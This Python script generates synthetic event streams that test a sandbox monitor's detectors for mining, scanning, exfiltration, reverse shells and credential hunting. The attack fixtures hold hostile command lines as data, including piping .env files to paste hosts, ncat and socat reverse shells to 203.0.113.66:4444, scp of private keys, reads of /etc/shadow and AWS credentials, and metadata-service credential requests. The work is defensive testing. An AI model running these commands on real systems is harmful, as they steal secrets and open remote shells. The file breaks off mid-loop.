#!/usr/bin/python3
"""Streams for tests/unit/test_watch.c that cannot be recorded on any machine, since they need hosts outside. The events
are as launcher and broker tell them. DETECTOR.attack-NAME.jsonl must trigger DETECTOR, DETECTOR.honest-NAME.jsonl
nothing at all.

The streams that are not made here were recorded: sandbox-agent --risk-level medium --record-events FILE -- PROGRAM.

    cd tests/data/watch && python3 compose.py
"""
import json

FIRST = dict(kind="exec", pid=100, call="execve", text="/usr/bin/python3", argv="python3\x1f/code/main.py")


class Stream:
    def __init__(self, name):
        self.at, self.lines, self.name, self.connections = 0, [], name, 0
        self.add(3, **FIRST)

    def add(self, ms, **event):
        """ms later"""
        self.at += ms * 1000
        self.lines.append({"at_us": int(self.at), **event})
        return self

    def connect(self, ms, address, port, name=None, pid=100, protocol=6, **more):
        if "error" not in more:  # nothing came of it: it has no number
            self.connections += 1
            more["connection"] = self.connections
        return self.add(ms, kind="connect", pid=pid, call="connect", protocol=protocol, address=address, port=port,
                        **{"text": "allow " + (name or "any public address"), **({"name": name} if name else {}),
                           **more})

    def traffic(self, ms, connection, out, back, address, port, kind="traffic", **more):
        return self.add(ms, kind=kind, pid=100, protocol=6, address=address, port=port, connection=connection,
                        bytes_out=out, bytes_in=back, **more)

    def run(self, ms, path, *argv, pid=200, stdin="other", stdin_id=5, stdout="pipe", stdout_id=12, stderr="pipe",
            stderr_id=13, **more):
        return self.add(ms, kind="exec", pid=pid, call="execve", text=path,
                        argv="\x1f".join(argv or [path.rsplit("/")[-1]]), stdin=stdin, stdin_id=stdin_id,
                        stdout=stdout, stdout_id=stdout_id, stderr=stderr, stderr_id=stderr_id, **more)

    def feed(self, ms, written, out, back, argv="/bin/sh", pid=200, by=100, **more):
        """the shell gets its input from `by`, which has written so many bytes, received `back`, and sent `out`"""
        return self.add(ms, kind="feed", pid=pid, text="/usr/bin/dash", argv=argv, arg0=by, arg1=written, protocol=6,
                        address="203.0.113.66", port=4444,
                        connection=1, bytes_out=out, bytes_in=back, flags="answers", **more)

    def save(self):
        with open(self.name + ".jsonl", "w") as f:
            for line in sorted(self.lines, key=lambda e: e["at_us"]):
                f.write(json.dumps(line, separators=(",", ":"), ensure_ascii=True) + "\n")


def busy(s, seconds, share=0.97, cores=0.5):
    """Samples beside what is there already."""
    s.lines += [{"at_us": i * 100000, "kind": "sample", "cpu_us": int(i * 100000 * share * cores),
                 "memory_bytes": 40 << 20, "pids": 3} for i in range(1, seconds * 10)]
    return s


def mining():
    s = busy(Stream("crypto_mining.attack-words"), 25).connect(500, "45.9.148.10", 443)
    s.traffic(900, 1, 310, 520, "45.9.148.10", 443).add(3000, kind="words", pid=100, text="mining.subscribe").save()
    s = busy(Stream("crypto_mining.attack-renamed"), 45).run(800, "/workspace/fontcache", "/workspace/fontcache",
                                                             pid=101, flags="writable_place")
    s.connect(500, "45.9.148.10", 80, pid=102)
    for i in range(1, 8):
        s.traffic(5000, 1, 300 * i, 500 * i, "45.9.148.10", 80)
    s.save()
    busy(Stream("crypto_mining.attack-arguments"),
         25).run(50, "/usr/bin/tool", "tool", "-o", "stratum+ssl://pool.example:443", "-u", "4AbC", "-p", "x").save()
    busy(Stream("crypto_mining.attack-pool"), 25).add(400, kind="name", name="gulf.moneroocean.stream", arg0=1).save()
    s = busy(Stream("crypto_mining.honest-numpy-and-download"), 28).add(100, kind="name", name="files.pythonhosted.org",
                                                                        arg0=1)
    s.connect(30, "151.101.0.223", 443, "files.pythonhosted.org")
    for i in range(1, 25):
        s.traffic(1000, 1, 900, (3 << 20) * i, "151.101.0.223", 443, name="files.pythonhosted.org")
    s.save()
    s = busy(Stream("crypto_mining.honest-built-program"), 28).run(100, "/usr/bin/gcc", "gcc", "-O2", "-o", "sim",
                                                                   "sim.c")
    s.connect(10, "151.101.0.223", 443, "data.example.org").traffic(200, 1, 900, 250000, "151.101.0.223", 443,
                                                                    kind="closed", name="data.example.org")
    s.run(900, "/workspace/sim", "./sim", "--steps", "1000000", flags="writable_place").save()


def scanning():
    s = Stream("port_scanning.attack-ports")
    for port in range(20, 70):
        s.connect(15, "203.0.113.9", port, error=111)
    s.save()
    s = Stream("port_scanning.attack-hosts-udp")
    for i in range(1, 50):
        s.connect(20, "198.51.100.%d" % i, 161, protocol=17)
    s.save()
    s = Stream("port_scanning.attack-refused-private")
    for i in range(1, 50):
        s.add(30, kind="connect", pid=100, call="connect", protocol=6, address="10.0.0.%d" % i, port=22,
              verdict="refused", error=111, text="private address 10.0.0.%d" % i)
    s.save()
    s = Stream("port_scanning.attack-slow")  # one port in five seconds, every third of them open
    for port in range(20, 60):
        if port % 3:
            s.connect(5000, "203.0.113.9", port, error=111)
        else:
            s.connect(5000, "203.0.113.9", port).traffic(3, s.connections, 0, 0, "203.0.113.9", port, kind="closed")
    s.save()
    s = Stream("port_scanning.attack-sweep-by-name")  # ssh, host by host, each under its name
    for i in range(40):
        s.connect(4000, "198.51.100.%d" % i, 22, "node%d.example.org" % i, error=111)
    s.save()
    s = Stream("port_scanning.attack-curl-through-proxy")
    for i in range(45):
        s.run(200, "/usr/bin/curl", "curl", "-s", "-m", "1", "-x", "http://203.0.113.7:8888",
              "http://10.0.0.5:%d/" % (9000 + i), pid=300 + i)
    s.save()
    s = Stream("port_scanning.attack-connect-through-proxy")
    for i in range(50):
        s.connect(300, "203.0.113.7", 3128).traffic(20, i + 1, 60 + i % 3, 110, "203.0.113.7", 3128, kind="closed")
    s.save()
    s = Stream("port_scanning.attack-refused-by-a-proxy")  # by SOCKS, in an hour: a word to it, and its refusal
    for i in range(24):
        s.connect(150000, "203.0.113.7", 1080).traffic(20, i + 1, 13, 12, "203.0.113.7", 1080, kind="closed")
    s.save()
    s = Stream("port_scanning.honest-small-requests-through-a-proxy")  # a page's state, asked for now and then
    for i in range(60):
        s.connect(9000, "203.0.113.7", 3128).traffic(90, i + 1, 124, 180, "203.0.113.7", 3128, kind="closed")
    s.save()
    s = Stream("port_scanning.honest-proxy")  # every request a connection of its own
    for i in range(90):
        s.run(50, "/usr/bin/curl", "curl", "-s", "-x", "http://203.0.113.7:3128", "https://pypi.org/simple/p%d/" % i,
              pid=300 + i)
        s.connect(10, "203.0.113.7", 3128).traffic(300, i + 1, 900, 9000, "203.0.113.7", 3128, kind="closed")
    s.save()
    s = Stream("port_scanning.honest-dead-links")  # a checker of links: half of the sites are gone
    for i in range(120):
        name = "site%d.example.org" % i
        s.connect(2000, "198.51.%d.%d" % (i // 100, i % 100), 443 if i % 4 else 80, name,
                  **({"error": 111} if i % 2 else {}))
    s.save()
    # a client of twelve addresses that are not up yet, asked every five seconds
    s = Stream("port_scanning.honest-cluster")
    for i in range(240):
        s.connect(400, "10.1.0.%d" % (i % 12), 9042, error=111)
    s.save()
    s = Stream("port_scanning.honest-retries")
    for i in range(300):
        s.connect(100, "203.0.113.%d" % (i % 3), 8080, error=111)
    s.save()
    s = Stream("port_scanning.honest-crawler")
    for i in range(200):
        s.add(60, kind="name", name="site%d.example%d.org" % (i, i),
              arg0=1).connect(20, "198.51.%d.%d" % (i // 100, i % 100), 443, "site%d.example%d.org" % (i, i))
    s.save()
    s = Stream("port_scanning.honest-packages")
    for i in range(10):
        for address in ("151.101.%d.63" % i, "2a04:4e42:%x::319" % i):
            s.connect(20, address, 443, "mirror%d.debian.org" % i).connect(5, address, 80, "mirror%d.debian.org" % i)
    s.save()


def exfiltration():
    s = Stream("data_exfiltration.attack-bulk").connect(50, "203.0.113.50", 443, "paste.example")
    for i in range(1, 41):
        s.traffic(100, 1, i << 20, 4000, "203.0.113.50", 443, name="paste.example")
    s.save()
    s = Stream("data_exfiltration.attack-spread")
    for i in range(1, 12):
        s.connect(50, "203.0.113.%d" % i, 443).traffic(400, i, 6 << 20, 4000, "203.0.113.%d" % i, 443, kind="closed")
    s.save()
    s = Stream("data_exfiltration.attack-canary").add(40, kind="file", pid=100, call="openat", flags="canary",
                                                      text="/workspace/.aws/credentials")
    s.connect(100, "203.0.113.50", 443).traffic(200, 1, 812, 300, "203.0.113.50", 443, kind="closed").save()
    s = Stream("data_exfiltration.attack-sensitive").connect(20, "203.0.113.50",
                                                             443).traffic(10, 1, 517, 4000, "203.0.113.50", 443)
    s.add(40, kind="file", pid=100, call="openat", flags="sensitive",
          text="/etc/shadow").traffic(90, 1, 1900, 4100, "203.0.113.50", 443).save()
    s = Stream("data_exfiltration.attack-names")
    for i in range(40):
        s.add(120, kind="name", name="%032x.%02d.t.evil.example"
              % (0x9e3779b97f4a7c15f39cc0605cedc835 * (i + 3) % (1 << 128), i), arg0=16)
    s.save()
    s = Stream("data_exfiltration.attack-short-names")
    for i in range(100):
        s.add(120, kind="name", name="%06x.evil.example" % (7919 * (i + 1)), arg0=1)
    s.save()
    s = Stream("data_exfiltration.attack-slow-names")  # two hours of names, ten seconds apart
    for i in range(40):
        s.add(10000, kind="name", name="%032x.t.evil.example"
              % (0x9e3779b97f4a7c15f39cc0605cedc835 * (i + 3) % (1 << 128)), arg0=1)
    s.save()
    s = Stream("data_exfiltration.attack-names-after-a-decoy").add(40, kind="file", flags="canary",
                                                                   text="/workspace/.aws/credentials")
    for i in range(4):
        s.add(2000, kind="name", name="%010x.%d.c.evil.example" % (0xa19e3779b9 + i * 7919, i), arg0=1)
    s.save()
    s = Stream("data_exfiltration.attack-many-peers")
    for i in range(1, 20):
        s.connect(3000, "198.51.100.%d" % i, 443).traffic(200, i, 6000, 300, "198.51.100.%d" % i, 443, kind="closed")
    s.save()
    out = dict(stdin="file", stdin_id=7)
    s = Stream("data_exfiltration.attack-env-by-pipe")  # what sends is started first
    s.run(50, "/usr/bin/curl", "curl", "-s", "--data-binary", "@-", "https://paste.example/", pid=203, stdin="pipe",
          stdin_id=42)
    s.run(2, "/usr/bin/gzip", "gzip", "-c", pid=202, stdin="pipe", stdin_id=41, stdout="pipe", stdout_id=42)
    s.run(2, "/usr/bin/cat", "cat", "/data/.env", pid=201, stdout="pipe", stdout_id=41, **out)
    s.connect(30, "203.0.113.50", 443, "paste.example", pid=203).traffic(90, 1, 900, 300, "203.0.113.50", 443,
                                                                         name="paste.example", kind="closed").save()
    s = Stream("data_exfiltration.attack-env-as-input").add(30, kind="file", flags="settings", text="/data/.env",
                                                            arg0=4711)
    s.run(5, "/usr/bin/ncat", "ncat", "203.0.113.50", "443", pid=203, stdin="file", stdin_id=4711)
    s.connect(30, "203.0.113.50", 443, "paste.example", pid=203).traffic(90, 1, 900, 300, "203.0.113.50", 443,
                                                                         name="paste.example", kind="closed").save()
    s = Stream("data_exfiltration.attack-env-to-an-address").add(30, kind="file", flags="settings", text="/data/.env",
                                                                 arg0=4711)
    s.connect(30, "203.0.113.50", 443).traffic(90, 1, 900, 300, "203.0.113.50", 443, kind="closed").save()
    s = Stream("data_exfiltration.attack-key-by-scp").run(50, "/usr/bin/scp", "scp", "-i", "/tmp/key",
                                                          "/data/id_ed25519", "me@203.0.113.50:", pid=203)
    s.connect(30, "203.0.113.50", 22, pid=203).traffic(90, 1, 2900, 1300, "203.0.113.50", 22, kind="closed").save()
    def env(name, size=300):
        return Stream(name).add(30, kind="file", flags="settings", text="/data/.env", arg0=4711, arg1=size)

    s = env("data_exfiltration.attack-env-dripped")  # to a peer with a name, which never answers
    for i in range(1, 5):
        s.connect(800, "203.0.113.50", 9000, "drop.example", text="public address")
        # the kernel counts a FIN as a byte
        s.traffic(20, i, 100, i % 2, "203.0.113.50", 9000, name="drop.example", kind="closed")
    s.save()
    s = Stream("data_exfiltration.attack-env-over-an-early-connection").connect(50, "203.0.113.50", 9000,
                                                                                "drop.example", text="public address")
    s.traffic(200, 1, 10, 0, "203.0.113.50", 9000, name="drop.example").add(30, kind="file", flags="settings",
                                                                            text="/data/.env", arg0=4711, arg1=300)
    s.traffic(500, 1, 410, 0, "203.0.113.50", 9000, name="drop.example", kind="closed").save()
    s = env("data_exfiltration.attack-env-in-names")  # 116 bytes in hexadecimal
    for i in range(6):
        s.add(100, kind="name", name="%x.%040x.x.drop.example"
              % (i, 0xf9e3779b97f4a7c15f39cc0605cedc8359e3779b * (i + 3) % (1 << 160)), arg0=1)
    s.save()
    # what never answers, and is there for it: by its port, or by a rule; a dead web server
    s = env("data_exfiltration.honest-env-and-metrics")
    for i, (port, name, rule) in enumerate(((8125, "metrics.example", "public address"),
                                            (5140, "log.example", "allow log.example:5140"),
                                            (8080, "hook.example", "public address")), 1):
        s.connect(50, "203.0.113.%d" % (50 + i), port, name,
                  text=rule).traffic(900, i, 5000, 0, "203.0.113.%d" % (50 + i), port, name=name, kind="closed")
    s.connect(50, "203.0.113.60", 5432, "db.example",
              text="public address").traffic(900, 4, 900, 500, "203.0.113.60", 5432, name="db.example", kind="closed")
    for i in range(8):  # buckets
        s.add(30, kind="name", name="data-lake-of-the-whole-company-%d.s3.eu-central-1.amazonaws.com" % i, arg0=1)
    for i in range(3):  # of one content network, and of many
        s.add(30, kind="name", name="d%040x.cdn.example" % (i * 0x123456789abcdef),
              arg0=1).add(30, kind="name", name="x%040d.site%d.example" % (i, i), arg0=1)
    s.save()
    def key(name, text="public address", port=80, host="drop.example", address="203.0.113.50"):
        s = Stream("suspected_exfiltration." + name).add(30, kind="file", flags="settings", text="/data/keys/id_rsa",
                                                         arg0=4712, arg1=1300)
        return lambda i, out, back: s.connect(90, address, port, host,
                                              text=text).traffic(90, i, out, back, address, port, name=host,
                                                                 kind="closed")

    key("attack-key-in-a-form")(1, 900, 140).save()
    drip = key("attack-key-dripped")
    for i in range(1, 30):  # a head of HTTP around each piece, and around its answer
        s = drip(i, 134, 139)
    s.save()
    key("honest-key-and-a-named-host", "allow backup.example", host="backup.example",
        address="203.0.113.51")(1, 90000, 140).save()
    key("honest-key-and-ssh", port=22, host="git.example", address="203.0.113.52")(1, 90000, 4000).save()
    key("honest-key-and-a-download", host="files.example", address="203.0.113.53")(1, 3000, 90000).save()
    key("honest-key-and-a-hook", host="hook.example", address="203.0.113.54")(1, 220, 140).save()
    s = Stream("data_exfiltration.honest-env")  # read, and its server talked to
    s.add(30, kind="file", flags="settings", text="/data/.env", arg0=4711)
    s.run(5, "/usr/bin/cat", "cat", "/data/.env", pid=201, stdout="pipe",
          stdout_id=41).run(2, "/usr/bin/grep", "grep", "TOKEN", pid=202, stdin="pipe", stdin_id=41, stdout="pipe",
                            stdout_id=42)
    s.run(9, "/usr/bin/curl", "curl", "-d", "{}", "https://api.example/", pid=203, stdin="pipe",
          stdin_id=41).connect(30, "203.0.113.50", 443, "api.example", pid=203)
    s.traffic(90, 1, 900, 300, "203.0.113.50", 443, name="api.example", kind="closed")
    s.run(9, "/usr/bin/curl", "curl", "--netrc-file", "/data/.netrc", "-o", "/tmp/.env",
          "https://me@api.example/x/.env", pid=204)
    s.connect(30, "203.0.113.50", 443, "api.example", pid=204).traffic(90, 2, 900, 300, "203.0.113.50", 443,
                                                                       name="api.example", kind="closed")
    s.run(9, "/usr/bin/ssh", "ssh", "-i", "/data/.ssh/id_ed25519", "git@git.example", "git-upload-pack", pid=205)
    s.run(9, "/usr/bin/rsync", "rsync", "-a", "-e", "ssh -i /data/.ssh/id_rsa", "src/", "git.example:src/",
          pid=206).run(9, "/usr/bin/rsync", "rsync", ".env", "/tmp/", pid=207)
    s.connect(30, "203.0.113.51", 22, "git.example", pid=205).traffic(90, 3, 9000, 3000, "203.0.113.51", 22,
                                                                      name="git.example", kind="closed").save()
    s = Stream("data_exfiltration.honest-upload").add(9, kind="file", pid=100, call="openat", flags="for_writing",
                                                      text="/workspace/result.csv")
    s.connect(50, "203.0.113.50", 443, "results.example.org")
    for i in range(1, 21):
        s.traffic(100, 1, i << 20, 4000, "203.0.113.50", 443, name="results.example.org")
    s.save()
    def taken(name, *peers, protocol=6, port=9000, back=1, rule="public address", size=90 << 10):
        s = Stream("data_exfiltration." + name)
        for i, host in enumerate(peers, 1):
            s.connect(50, "203.0.113.%d" % (60 + i), port, host, text=rule,
                      protocol=protocol).traffic(900, i, size // 2, 0, "203.0.113.%d" % (60 + i), port, name=host)
            s.traffic(900, i, size, back, "203.0.113.%d" % (60 + i), port, name=host, kind="closed")
        s.save()

    taken("attack-taken-in-silence", "drop.example", size=700 << 10)
    taken("attack-taken-by-two", "a.example", "b.example")
    taken("attack-taken-by-datagrams", "drop.example", protocol=17, back=0, size=200000)
    taken("attack-taken-below-a-wildcard", "x.drop.example", size=200000, rule="allow *.example")
    taken("honest-taken-and-named", "backup.example", size=9 << 20, rule="allow backup.example:9000")
    taken("honest-logs", "log.example", port=6514, size=9 << 20, back=0)
    taken("honest-answered", "files.example", size=9 << 20, back=40)
    taken("honest-short-silence", "a.example", size=100 << 10)
    s = Stream("data_exfiltration.honest-local").connect(50, "127.0.0.1", 5432, flags="inside")
    s.traffic(900, 1, 90 << 20, 400, "127.0.0.1", 5432, flags="inside").save()
    s = Stream("data_exfiltration.honest-names")
    for i in range(12):
        for host in ("d%013x.cloudfront.net" % (i * 0x1234567), "www.site%d.example" % i,
                     "my-long-bucket-name-%d.s3.eu-central-1.amazonaws.com" % i, "%d.0.0.10.in-addr.arpa" % i):
            s.add(30, kind="name", name=host, arg0=1)
    s.save()


def forks():
    def grown(name, pids):
        s = Stream("fork_bomb_detection." + name)
        for i in range(1, 60):
            s.add(1000, kind="sample", cpu_us=i * 1000, memory_bytes=40 << 20, pids=min(3 + i, pids))
        return s

    s = grown("attack-slow", 20)  # at medium: one more process a second, for ever
    for i in range(30):
        s.add(1000, kind="sample", cpu_us=90000 + i, memory_bytes=40 << 20,
              pids=20).add(1, kind="limit", text="pids", arg0=i + 1)
    s.save()
    s = Stream("fork_bomb_detection.attack-ended-by-the-limit").add(60, kind="sample", cpu_us=9000,
                                                                    memory_bytes=40 << 20, pids=20)
    s.add(30, kind="limit", text="pids", arg0=14).add(1, kind="end", text="pids_limit").save()
    s = Stream("fork_bomb_detection.attack-ended-where-askers-are-known")
    s.add(30, kind="limit", text="pids", arg0=12, arg1=8).add(1, kind="end", text="pids_limit").save()
    s = Stream("fork_bomb_detection.honest-pool-too-large")  # gives up at the first refusal
    s.add(90, kind="sample", cpu_us=9000, memory_bytes=40 << 20,
          pids=20).add(30, kind="limit", text="pids", arg0=2).add(1, kind="end", text="pids_limit").save()
    s = Stream("fork_bomb_detection.honest-pipeline-too-long")  # a shell and its subshell try again
    s.add(90, kind="sample", cpu_us=9000, memory_bytes=40 << 20,
          pids=6).add(30, kind="limit", text="pids", arg0=9, arg1=2).add(1, kind="end", text="pids_limit").save()


def cpu():
    busy(Stream("excessive_cpu_usage.attack-after-its-start"), 70, share=0.99).add(9000, kind="begun").save()

    def starts(name, seconds, begun_ms):  # on a machine that turns out to be 15 times slower than the reference
        s = busy(Stream("excessive_cpu_usage." + name), seconds, share=0.99).add(0, kind="starting", arg0=3000000)
        s.add(1000, kind="starting", arg0=22000000)
        return s.add(begun_ms, kind="begun") if begun_ms else s

    starts("honest-slow-start", 65, 40000).save()
    starts("attack-start-that-never-ends", 80, 0).save()


PIPES = dict(stdin="pipe", stdin_id=71, stdout="pipe", stdout_id=72, stderr="pipe", stderr_id=72)
SOCKET = dict(stdin="inet", stdin_id=90, stdout="inet", stdout_id=90, stderr="inet", stderr_id=90)


def shells():
    def there(name, host=None):
        return Stream("reverse_shells." + name).connect(30, "203.0.113.66", 4444, host)
    there("attack-dev-tcp").run(2, "/bin/bash", "bash", "-i", **SOCKET).save()
    there("attack-dup2").run(2, "/bin/sh", "/bin/sh", **SOCKET).save()
    there("attack-renamed").run(2, "/tmp/kworker", "kworker", **SOCKET, flags="writable_place").save()
    there("attack-interpreter").run(2, "/usr/bin/python3.11", "python3", **SOCKET).save()
    there("attack-terminal").run(2, "/bin/bash", "/bin/bash", stdin="tty", stdin_id=3, stdout="tty", stdout_id=3,
                                 stderr="tty", stderr_id=3).feed(300, 9, 120, 9).save()
    there("attack-node").run(2, "/bin/sh", "/bin/sh", stdin="unix", stdin_id=71, stdout="unix", stdout_id=72,
                             stderr="unix", stderr_id=73).feed(300, 29, 8, 20).save()
    there("attack-popen").run(2, "/bin/sh", "/bin/sh", "-i", **PIPES).feed(300, 20, 8, 20, argv="/bin/sh\x1f-i").save()
    s = Stream("reverse_shells.attack-fifo").run(4, "/usr/bin/cat", "cat", "/tmp/f", pid=201, stdout_id=71)
    s.run(1, "/bin/sh", "/bin/sh", "-i", pid=202, **PIPES).run(1, "/usr/bin/nc", "nc", "203.0.113.66", "4444", pid=203,
                                                               stdin="pipe", stdin_id=72, stdout="file", stdout_id=80)
    s.connect(3, "203.0.113.66", 4444, pid=203).feed(200, 11, 40, 11, argv="/bin/sh\x1f-i", pid=202, by=203).save()
    # what it wrote before is not the shell's
    s = there("attack-banner-first").run(2, "/bin/sh", "/bin/sh", **PIPES).feed(100, 30, 0, 800)
    s.feed(900, 33, 20, 803).feed(900, 42, 300, 812).save()
    s = Stream("reverse_shells.attack-unnamed").connect(30, "203.0.113.66", 443).run(2, "/bin/sh", "/bin/sh", **PIPES)
    for turn in range(1, 4):
        s.feed(900, 40 * turn, 500 * turn, 700 * turn)
    s.save()
    s = there("attack-a-shell-each")
    for i, command in enumerate(("id", "uname -a", "ls -la /")):
        s.traffic(900, 1, 100 * i, (i + 1) + sum(len(c) for c in ("id", "uname -a", "ls -la /")[:i + 1]),
                  "203.0.113.66", 4444)
        s.run(2, "/bin/sh", "sh", "-c", command, pid=300 + i, stdout_id=40 + i)
    s.save()
    def orders(name, texts, *words):
        s = Stream("reverse_shells." + name)
        for i, text in enumerate(texts):
            s.add(900, kind="name", name="c%d.cmd.example" % i, arg0=16, argv=text)
            s.run(30, *words[i], pid=300 + i)
        s.save()

    orders("attack-order-by-name", ["ls -la /"], ("/bin/sh", "sh", "-c", "ls -la / 2>&1"))
    orders("attack-orders-of-a-word", ["id", "whoami"], ("/bin/bash", "bash", "-lc", "id "),
           ("/usr/bin/whoami", "whoami"))
    orders("attack-order-evaluated", ["uname -a; id | head -1"], ("/usr/bin/uname", "uname", "-a"))
    orders("honest-text-of-a-domain", ["v=spf1 include:_spf.example -all", "true", "dig is what shows this"],
           ("/bin/sh", "sh", "-c", "dig +short TXT example | grep 'v=spf1 include:_spf.example -all'"),
           ("/bin/sh", "sh", "-c", "true"), ("/usr/bin/dig", "dig"))
    orders("honest-grep-of-a-domain", ["v=spf1 include:_spf.example -all"],
           ("/usr/bin/grep", "grep", "-c", "v=spf1 include:_spf.example -all"),
           ("/usr/bin/grep", "grep", "-Fxc", "v=spf1 include:_spf.example -all"))

    def channel(name, commands, frame, template="%s", name_of=None, **feed):
        s, came = there(name, name_of).traffic(100, 1, 60, 200, "203.0.113.66", 4444), 200
        for i, command in enumerate(commands):
            came += frame + len(command)
            s.traffic(900, 1, 100 * i + 60, came, "203.0.113.66", 4444)
            if feed:
                s.add(1, kind="feed", pid=300 + i, **feed)
            s.run(1, "/bin/sh", "sh", "-c", template % command, pid=300 + i, stdout_id=40 + i)
        s.save()
    channel("attack-channel", ("id", "uname -a", "ls -la /", "df"), 36, flags="as_came")
    commands = ("id", "uname -a", "ls -la /", "df")
    channel("attack-channel-of-strings", commands, 25, flags="as_string")
    channel("honest-channel-of-a-named-peer", commands, 25, name_of="jobs.example", flags="as_string")
    channel("honest-model-of-strings", commands, 190, flags="as_string")
    channel("honest-worker-of-a-channel", ("id", "uname -a", "ls -la /", "w"), 36,
            "printf %%s '%s' | sha256sum | head -c 12")
    channel("honest-web-client", ("id", "uname -a", "ls -la /", "w"), 150, flags="as_came")
    s = Stream("reverse_shells.attack-two-telnets").run(4, "/usr/bin/telnet", "telnet", "203.0.113.66", "4444", pid=201,
                                                        stdout_id=71)
    s.run(1, "/bin/sh", "/bin/sh", pid=202, **PIPES).run(1, "/usr/bin/telnet", "telnet", "203.0.113.66", "4445",
                                                         pid=203, stdin="pipe", stdin_id=72)
    s.connect(3, "203.0.113.66", 4444, pid=201).connect(3, "203.0.113.66", 4445, pid=203).save()
    s = there("attack-read-loop")
    for pid, word in enumerate(("id", "ls", "uname"), 300):
        s.run(900, "/usr/bin/" + word, word, pid=pid, **SOCKET)
    s.save()
    Stream("reverse_shells.attack-ncat").run(9, "/usr/bin/ncat", "ncat", "203.0.113.66", "4444", "-e", "/bin/sh").save()
    Stream("reverse_shells.attack-socat").run(9, "/usr/bin/socat", "socat", "TCP:203.0.113.66:4444",
                                              "EXEC:sh,pty").save()

    s = Stream("reverse_shells.honest-agent").connect(30, "203.0.113.66", 4444,
                                                      "llm.example").run(2, "/bin/bash", "bash", **PIPES)
    for turn in range(1, 9):  # its peer is named; an answer is 300 to 700 bytes, a command 10 to 60
        s.feed(2000, 35 * turn + turn * turn, 1500 * turn * turn, 500 * turn + turn * turn % 70, argv="bash")
    s.save()
    s = Stream("reverse_shells.honest-agent-with-a-shell-each").connect(30, "203.0.113.66", 4444, "llm.example")
    for turn, command in enumerate(("ls", "cat README.md", "make test", "git diff", "make"), 1):
        s.traffic(2000, 1, 1500 * turn, 300 * turn + len(command), "203.0.113.66",
                  4444).run(5, "/bin/sh", "sh", "-c", command, pid=200 + turn)
    s.save()
    # network.allow is empty: no rule can name a peer
    s = Stream("reverse_shells.attack-open-network").connect(30, "203.0.113.66", 4444, text="public address").run(
        2, "/bin/sh", "/bin/sh", **PIPES)
    for turn in range(1, 5):  # frames: 45 to 60 bytes around a command
        s.feed(900, 20 * turn, 300 * turn, 70 * turn + turn * turn)
    s.save()
    for name, by_write in (("", 0), ("-that-writes", 1)):  # how its requests count: python sends them, node writes them
        s = Stream("reverse_shells.honest-agent-on-an-open-network"
                   + name).connect(30, "203.0.113.66", 4444, "llm.example", text="public address")
        s.run(2, "/bin/bash", "bash", **PIPES)
        for turn in range(1, 9):
            out = 1500 * turn * turn
            s.feed(2000, 70 * turn + turn * turn + by_write * out, out, 400 * turn + turn * turn % 70, argv="bash")
        s.save()
    s = Stream("reverse_shells.honest-fed-once").connect(30, "203.0.113.66", 443).run(2, "/bin/bash", "bash", **PIPES)
    s.feed(900, 4000, 900, 9000, argv="bash").save()  # a script, beside a peer that nobody named
    s = there("honest-client-and-ls").traffic(300, 1, 400, 9000, "203.0.113.66", 4444)
    s.run(5, "/usr/bin/ls", "ls", stdout_id=40).run(5, "/bin/sh", "/bin/sh", "-c", "ls", pid=201,
                                                    stdout_id=41).run(5, "/usr/bin/ls", "ls", pid=201, stdout_id=41)
    s.run(5, "/usr/bin/bash", "bash", "script.sh", pid=202, **PIPES).run(5, "/usr/bin/bash", "bash", "-ec", "make",
                                                                         pid=203, **PIPES).save()
    s = Stream("reverse_shells.honest-curl-sh").run(4, "/usr/bin/curl", "curl", "-s", "https://sh.example", pid=201,
                                                    stdout_id=71)
    s.run(0, "/bin/sh", "sh", pid=202, stdin="pipe", stdin_id=71).connect(40, "203.0.113.7", 443, "sh.example", pid=201)
    s.traffic(300, 1, 700, 9000, "203.0.113.7", 443, kind="closed").run(3, "/usr/bin/uname", "uname", pid=204,
                                                                        stdin="pipe", stdin_id=71).save()
    s = there("honest-fed-script").traffic(100, 1, 400, 9000, "203.0.113.66", 4444,
                                           kind="closed").run(9, "/usr/bin/bash", "bash", **PIPES).save()
    s = there("honest-bash-http").run(2, "/usr/bin/cat", "cat", "request", pid=201, stdout="inet", stdout_id=90)
    s.run(2, "/usr/bin/cat", "cat", pid=202, stdin="inet", stdin_id=90).save()
    s = Stream("reverse_shells.honest-upload-of-output").run(2, "/bin/sh", "sh", "-c", "df -h", pid=201, stdout_id=71)
    s.run(1, "/usr/bin/curl", "curl", "-d", "@-", "https://x.example", pid=202, stdin="pipe",
          stdin_id=71).connect(30, "203.0.113.7", 443, "x.example", pid=202).save()


def hunts():
    s = Stream("privilege_escalation_attempt.attack-find-keys")
    s.run(40, "/usr/bin/find", "find", "/", "-xdev", "(", "-name", "id_rsa", "-o", "-name", ".env*", ")").save()
    s = Stream("privilege_escalation_attempt.attack-grep-keys")
    s.run(40, "/usr/bin/grep", "grep", "-rIlE", "BEGIN (RSA|OPENSSH) PRIVATE KEY", "/workspace", "/home", "/etc").save()
    s = Stream("privilege_escalation_attempt.attack-reads-keys").run(40, "/usr/bin/cat", "cat", "/etc/shadow")
    s.run(40, "/usr/bin/base64", "base64", "/home/ann/.aws/credentials").save()
    def homes(name, *paths):
        s = Stream("privilege_escalation_attempt." + name)
        for path in paths:
            s.add(40, kind="file", flags="of_others", text=path)
        s.save()

    homes("attack-homes", "/home/admin/.ssh/id_rsa", "/home/admin/.ssh/id_ed25519")
    homes("honest-one-file-of-a-home", "/home/admin/.docker/config.json")
    s = Stream("privilege_escalation_attempt.attack-metadata").connect(9, "169.254.169.254", 80, verdict="refused",
                                                                       error=111)
    s.connect(9, "100.100.100.200", 80, verdict="refused", error=111).save()
    def by_hand(name, *paths):
        s = Stream("privilege_escalation_attempt." + name)
        for path in paths:
            s.run(40, "/usr/bin/curl", "curl", "-s", "-H", "X-aws-ec2-metadata-token: t",
                  "http://169.254.169.254/latest/" + path)
            s.connect(9, "169.254.169.254", 80, verdict="refused", error=111)
        s.save()

    by_hand("attack-metadata-by-hand", "meta-data/iam/security-credentials/build")
    by_hand("honest-metadata-by-hand", "meta-data/instance-id", "meta-data/placement/availability-zone")
    s = Stream("privilege_escalation_attempt.honest-metadata-by-rule")  # which opens the service
    s.run(40, "/usr/bin/curl", "curl",
          "http://169.254.169.254/latest/meta-data/iam/security-credentials/").connect(9, "169.254.169.254", 80).save()
    s = Stream("privilege_escalation_attempt.attack-reads-cluster").run(
        40, "/usr/bin/cat", "cat", "/run/secrets/kubernetes.io/serviceaccount/token")
    s.run(40, "/usr/bin/cat", "cat", "/etc/kubernetes/admin.conf").save()
    s = Stream("privilege_escalation_attempt.honest-reads-cluster")
    for name in ("token", "ca.crt", "namespace"):
